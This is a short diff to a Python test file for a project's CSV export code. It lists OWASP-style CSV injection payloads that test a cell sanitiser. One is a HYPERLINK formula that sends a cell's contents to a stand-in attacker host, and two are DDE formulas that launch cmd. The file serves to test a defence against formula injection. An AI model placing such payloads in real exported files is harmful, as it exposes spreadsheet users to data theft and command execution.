@@ -8,13 +8,13 @@ import io
 
 from hypothesis import given
 from hypothesis import strategies as st
+from shipped import shipped
 
 from oppositions.changes import changes_in
 from oppositions.csv_tables import FORMULA_STARTS, changes_csv, csv_bytes, safe_cell
-from oppositions.dataset import load_dataset
 from oppositions.export import data_bytes, export_graph
 
-DATA = load_dataset()
+DATA = shipped()
 # OWASP's examples of CSV injection, and the other starts spreadsheets read as formulas
 PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
